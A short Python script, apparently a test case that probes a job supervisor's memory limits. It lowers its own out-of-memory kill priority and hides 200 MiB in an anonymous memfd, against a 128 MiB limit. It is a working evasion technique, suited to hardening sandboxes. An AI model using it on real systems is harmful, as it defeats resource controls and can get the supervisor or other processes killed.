"""Attacked: the supervisor, by way of the kernel's choice whom to kill when memory runs out. The program takes
memory that counts for no process, is itself a small one, and asks to be the last to be killed.

Won: 200 MiB, where 128 are given. Failing that, the supervisor may be the one that is killed: then the program has
lost its results and the job still ends as one that took too much.
"""

import os

print("BEGUN")
for rank in range(-1000, 1000, 100):
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write(str(rank))
        break
    except OSError:
        continue  # not that low
hoard = os.memfd_create("hoard", 0)
os.dup2(hoard, 1)
os.execvp("sh", ["sh", "-c", "head -c 200M /dev/zero && echo WON 200 MiB >&2"])
